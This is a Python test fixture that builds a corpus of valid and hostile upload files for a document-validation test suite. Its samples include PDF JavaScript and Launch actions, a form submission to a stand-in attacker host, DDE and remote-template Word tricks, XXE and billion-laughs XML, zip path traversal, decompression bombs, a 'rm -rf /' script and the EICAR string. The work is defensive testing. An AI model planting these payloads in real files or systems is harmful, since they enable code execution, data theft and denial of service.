"""Makes the files of the tests: good ones of each kind, and a corpus that lies, hides or attacks."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.support.document_files import make_docx, make_pdf, make_zip, pdf_of, stream
from tests.support.fake_clamd import EICAR

PHOTO = random.Random(1).randbytes(60_000)
HTML = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
ODT = b"application/vnd.oasis.opendocument.text"
ODS = b"application/vnd.oasis.opendocument.spreadsheet"
OFFICE = "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)


def image(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "green").save(out, kind)
    return out.getvalue()


def heic(width: int = 4000, height: int = 3000) -> bytes:
    """The boxes of a HEIC picture; what it shows doesn't matter here."""

    def box(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", 8 + len(content)) + name + content

    ispe = box(b"ispe", bytes(4) + struct.pack(">II", width, height))
    meta = box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", ispe)))
    return box(b"ftyp", b"heic" + bytes(4) + b"mif1heic") + meta + box(b"mdat", PHOTO[:500])


def png_of(width: int, height: int, extra: bytes = b"") -> bytes:
    """A PNG that says it is this large; its picture is a few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + extra + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header claims a size."""
    data = bytearray(image("JPEG"))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def xlsx(**parts: bytes | str) -> bytes:
    """A workbook."""
    return make_zip(
        {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook><sheets/></workbook>", **parts}
    )


def odf(mimetype: bytes = ODT, **parts: bytes | str) -> bytes:
    """An OpenDocument file."""
    return make_zip(
        {"mimetype": mimetype, "content.xml": OFFICE, "META-INF/manifest.xml": "<manifest/>", **parts}
    )


GOOD: dict[str, bytes] = {
    "brief.pdf": make_pdf(),
    "foto.jpg": image("JPEG"),
    "foto.JPEG": image("JPEG"),
    "schets.png": image("PNG"),
    "foto.webp": image("WEBP"),
    "telefoon.heic": heic(),
    "brief.docx": make_docx(),
    "sommen.xlsx": xlsx(),
    "brief.odt": odf(),
    "sommen.ods": odf(ODS),
    "notitie.txt": "Beste gemeente,\r\n\r\ncafé \u20ac 5".encode(),
    "oud.txt": "caf\xe9".encode("cp1252"),
}


def pdf_with(entries: bytes, *objects: bytes) -> bytes:
    """A one-page PDF whose catalogue has more entries."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>"
    return pdf_of([catalogue, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page >>", *objects])


def packed_pdf(hidden: bytes) -> bytes:
    """A PDF 1.5 with its objects packed together, so that nothing of `hidden` stands open in the file."""
    inside = b"4 0 " + hidden
    first = len(b"4 0 ")
    body = b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream"
    packed = zlib.compress(inside)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page >>",
        None,
        body % (first, len(packed), packed),
    ]
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    for number, content in enumerate(objects, start=1):
        if content is not None:
            places[number] = len(out)
            out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 6):
        rows.append(
            struct.pack(">BIH", 2, 5, 0) if number == 4 else struct.pack(">BIH", 1, places[number], 0)
        )
    rows.append(struct.pack(">BIH", 1, start, 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n"
        % len(table)
    )
    return bytes(out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)


def locked(data: bytes) -> bytes:
    """An archive whose parts say that they are encrypted."""
    changed = bytearray(data)
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := changed.find(magic, at + 1)) >= 0:
            changed[at + offset] |= 1
    return bytes(changed)


def many_parts(count: int) -> bytes:
    """A document with a great many parts."""
    return make_docx(**{f"word/media/{number}.xml": "<a/>" for number in range(count)})


def _rel(kind: str, target: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return RELS % f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><l>&j;</l>"
)


def evil() -> Iterator[tuple[str, str, bytes, str]]:
    """(what, file name, content, problem) of the corpus; "" for a problem that may be any."""
    yield from _names()
    yield from _lies()
    yield from _pdfs()
    yield from _offices()
    yield from _images()


def _names() -> Iterator[tuple[str, str, bytes, str]]:
    pdf = make_pdf()
    for name in ("factuur.exe.pdf", "foto.js.pdf", "a.svg.pdf", "brief.html.pdf", "x.php.pdf", "y.BAT.pdf"):
        yield f"double extension {name}", name, pdf, "name"
    for name in (
        "virus.exe", "script.js", "pagina.html", "plaatje.svg", "macro.docm", "macro.xlsm", "oud.doc", "oud.xls",
        "archief.zip", "film.mp4", "zonder", "pdf", ".exe", "x.pdf\x00.exe", "x.pdf/evil.sh",
        "..", "", "\u202efdp.exe", "foto.gif", "scan.tiff", "leeg.", "x.pdf;.php",
    ):  # fmt: skip
        yield f"name {name!r}", name, pdf, "kind"


def _lies() -> Iterator[tuple[str, str, bytes, str]]:
    pdf = make_pdf()
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "nothing in it", "leeg.pdf", b"", "empty"
    yield "html as pdf", "brief.pdf", HTML, "mismatch"
    yield "html as jpg", "foto.jpg", HTML, "mismatch"
    yield "html as txt", "tekst.txt", HTML, "mismatch"
    yield "html after blank lines as txt", "tekst.txt", b"\n\n   " + HTML, "mismatch"
    yield "script somewhere as txt", "tekst.txt", b"hallo <script>x</script>", "mismatch"
    yield "php as txt", "tekst.txt", b"<?php system('x'); ?>", "mismatch"
    yield "svg as png", "plaatje.png", svg, "mismatch"
    yield "svg as txt", "plaatje.txt", svg, "mismatch"
    yield "program as pdf", "brief.pdf", b"MZ" + bytes(500), "mismatch"
    yield "linux program as jpg", "foto.jpg", b"\x7fELF" + bytes(500), "mismatch"
    yield "shell script as txt", "tekst.txt", b"#!/bin/sh\nrm -rf /", "mismatch"
    yield "bytes as txt", "tekst.txt", bytes(range(256)), "mismatch"
    yield "rtf as docx", "brief.docx", b"{\\rtf1 x}", "mismatch"
    yield "gif as png", "foto.png", b"GIF89a" + bytes(50), "mismatch"
    yield "pdf as docx", "brief.docx", pdf, "mismatch"
    yield "docx as pdf", "brief.pdf", make_docx(), "mismatch"
    yield "docx as odt", "brief.odt", make_docx(), "mismatch"
    yield "picture as pdf", "brief.pdf", image("PNG"), "mismatch"
    yield "pdf as picture", "foto.jpg", pdf, "mismatch"
    yield "zip as docx", "brief.docx", make_zip({"a.txt": "a"}), "mismatch"
    yield "old word as docx", "brief.docx", OLE, "password"
    yield "avif as heic", "foto.heic", b"\0\0\0\x1cftypavif" + bytes(100), "mismatch"
    yield "video as heic", "foto.heic", b"\0\0\0\x1cftypisom" + bytes(100), "mismatch"
    yield "page before pdf", "brief.pdf", HTML + pdf, ""
    yield "picture before pdf", "brief.jpg", image("JPEG")[:200] + pdf, ""
    yield "text before pdf", "brief.txt", b"hallo\n" + pdf, "polyglot"
    yield "zip behind pdf", "brief.pdf", pdf + bytes(4000) + make_zip({"a": "b"}), "polyglot"
    yield "zip behind png", "foto.png", image("PNG") + make_zip({"a": "b"}), "polyglot"
    yield "zip behind jpg", "foto.jpg", image("JPEG") + make_zip({"a": "b"}), "polyglot"
    yield "gif before zip", "brief.docx", b"GIF89a" + make_docx(), ""


def _pdfs() -> Iterator[tuple[str, str, bytes, str]]:
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    yield "script on opening", "a.pdf", pdf_with(b"/OpenAction 4 0 R", js), "active"
    yield "script by name", "a.pdf", pdf_with(b"/Names << /JavaScript 4 0 R >>", js), "active"
    escaped = b"<< /S /J#61va#53cript /JS (x) >>"
    yield "script in other letters", "a.pdf", pdf_with(b"/OpenAction 4 0 R", escaped), "active"
    yield "script in packed objects", "a.pdf", packed_pdf(js), "active"
    launch = b"<< /S /Launch /F (cmd.exe) >>"
    yield "starts a program", "a.pdf", pdf_with(b"/OpenAction 4 0 R", launch), "active"
    yield "starts a program, packed", "a.pdf", packed_pdf(launch), "active"
    submit = b"<< /S /SubmitForm /F (http://aanvaller.example) >>"
    yield "sends a form away", "a.pdf", pdf_with(b"/AA << /O 4 0 R >>", submit), "active"
    yield "imports data", "a.pdf", pdf_with(b"/AA << /O << /S /ImportData >> >>"), "active"
    yield "film", "a.pdf", pdf_with(b"/A << /Type /RichMedia >>"), "active"
    yield "xfa form", "a.pdf", pdf_with(b"/AcroForm << /XFA 4 0 R >>", stream(b"<xdp/>")), "active"
    attached = stream(b"MZ", b"/Type /EmbeddedFile")
    yield "file in it", "a.pdf", pdf_with(b"/Names << /EmbeddedFiles 4 0 R >>", attached), "embedded"
    yield "other pdf in it", "a.pdf", pdf_with(b"/OpenAction << /S /GoToE >>"), "embedded"
    yield "cut off", "a.pdf", make_pdf()[:60], "broken"
    yield "no pages", "a.pdf", pdf_of([b"<< /Type /Catalog >>"]), "broken"
    kids = b"3 0 R " * 100_000
    pages = b"<< /Type /Pages /Count 100000 /Kids [" + kids + b"] >>"
    yield (
        "100,000 pages",
        "a.pdf",
        pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, b"<< /Type /Page >>"]),
        ("pages"),
    )
    deep = b"[" * 100_000 + b"]" * 100_000
    yield "deep", "a.pdf", pdf_of([b"<< /Type /Catalog /Pages 2 0 R /X " + deep + b" >>"]), ""
    bomb = zlib.compress(zlib.compress(bytes(400_000_000)))
    entries = b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>"
    yield "packed bomb", "a.pdf", _with_object_stream(entries % len(bomb), bomb), ""
    yield "password", "a.pdf", _locked_pdf(), "password"


def _with_object_stream(head: bytes, data: bytes) -> bytes:
    plain = packed_pdf(b"<< /X 1 >>")
    start = plain.index(b"5 0 obj\n")
    end = plain.index(b"endobj", start)
    changed = plain[:start] + b"5 0 obj\n" + head + b"\nstream\n" + data + b"\nendstream\n" + plain[end:]
    moved = changed.index(b"6 0 obj\n")
    # Its own place in the table stays right: only what stands behind the stream moved.
    return changed[: changed.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % moved


def _locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt("geheim", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _offices() -> Iterator[tuple[str, str, bytes, str]]:
    yield "macros", "a.docx", make_docx(**{"word/vbaProject.bin": b"x"}), "active"
    yield "macro sheet", "a.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "active"
    yield "activex", "a.docx", make_docx(**{"word/activeX/activeX1.xml": "<a/>"}), "active"
    types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    yield "macros by type", "a.docx", make_docx(**{"[Content_Types].xml": types}), "active"
    template = _rel("attachedTemplate", "http://aanvaller.example/t.dotm")
    yield (
        "template from elsewhere",
        "a.docx",
        make_docx(**{"word/_rels/settings.xml.rels": template}),
        "active",
    )
    ole = _rel("oleObject", "file://aanvaller.example/x")
    yield "linked object", "a.docx", make_docx(**{"word/_rels/document.xml.rels": ole}), "active"
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    yield "dde field", "a.docx", make_docx(body=field), "active"
    dde = xlsx(**{"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"})
    yield "dde link", "a.xlsx", dde, "active"
    yield "basic in odt", "a.odt", odf(**{"Basic/Standard/Module1.xml": "<a/>"}), "active"
    yield "scripts in ods", "a.ods", odf(ODS, **{"Scripts/python/x.py": "import os"}), "active"
    yield "zip in it", "a.docx", make_docx(**{"word/embeddings/x.bin": make_zip({"a": "b"})}), "embedded"
    yield "old office in it", "a.docx", make_docx(**{"word/embeddings/ole.bin": OLE}), "embedded"
    yield "program in it", "a.docx", make_docx(**{"word/media/image1.png": b"MZ" + bytes(99)}), "embedded"
    yield "pdf in it", "a.odt", odf(**{"Object 1": make_pdf()}), "embedded"
    yield "password on the zip", "a.docx", locked(make_docx()), "password"
    secret = '<m:manifest xmlns:m="x"><m:encryption-data/></m:manifest>'
    yield "password on odt", "a.odt", odf(**{"META-INF/manifest.xml": secret}), "password"
    yield "zip bomb", "a.docx", make_docx(**{"word/media/a.bin": bytes(300_000_000)}), "bomb"
    yield "many parts", "a.docx", many_parts(2_500), "bomb"
    nested = make_zip({"b.zip": make_zip({"c": bytes(40_000_000)})})
    yield "bomb in a bomb", "a.docx", make_docx(**{"word/media/b.zip": nested}), ""
    yield "entities", "a.docx", make_docx(**{"docProps/core.xml": LAUGHS}), "broken"
    yield (
        "entities in utf-16",
        "a.docx",
        make_docx(**{"docProps/core.xml": LAUGHS.encode("utf-16")}),
        "broken",
    )
    outside = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/hostname">]><l>&x;</l>'
    yield "entity from the disk", "a.odt", odf(**{"content.xml": outside}), "broken"
    yield "path in a part", "a.docx", make_docx(**{"../../../etc/cron.d/x": "x"}), "broken"
    yield "cut off", "a.docx", make_docx()[:-200], "broken"
    yield "not xml", "a.docx", make_docx(body="<w:p>"), "broken"
    yield "huge text", "a.docx", make_docx(body="a" * 13_000_000, **{"word/media/x.bin": PHOTO}), ""


def _images() -> Iterator[tuple[str, str, bytes, str]]:
    yield "image bomb png", "a.png", png_of(60_000, 60_000), "pixels"
    yield "image bomb png, widest", "a.png", png_of(2**31 - 1, 2**31 - 1), ""
    yield "image bomb jpg", "a.jpg", jpeg_of(65_000, 65_000), "pixels"
    yield "image bomb heic", "a.heic", heic(2**31, 2**31), "pixels"
    yield "no size png", "a.png", png_of(0, 0), "broken"
    yield "heic without a picture", "a.heic", heic()[:40], "broken"
    yield "cut off png", "a.png", image("PNG")[:20], "broken"
    yield "cut off jpg", "a.jpg", image("JPEG")[:12], "broken"
    yield "cut off webp", "a.webp", image("WEBP")[:16], "broken"
    text = zlib.compress(bytes(200_000_000))
    data = b"zTXt" + b"Comment\0\0" + text
    chunk = struct.pack(">I", len(data) - 4) + data + struct.pack(">I", zlib.crc32(data))
    yield "bomb in the text of a png", "a.png", png_of(10, 10, chunk), ""


def viruses() -> Iterator[tuple[str, bytes]]:
    """The test virus in files that are otherwise good: only a scanner can tell."""
    yield "virus.txt", EICAR
    open_stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(EICAR), EICAR)
    yield "virus.pdf", pdf_with(b"", open_stream)
    yield "virus.jpg", image("JPEG") + EICAR
    yield "virus.docx", _stored(EICAR)


def _stored(data: bytes) -> bytes:
    out = io.BytesIO(make_docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/media/x.txt", data, zipfile.ZIP_STORED)
    return out.getvalue()
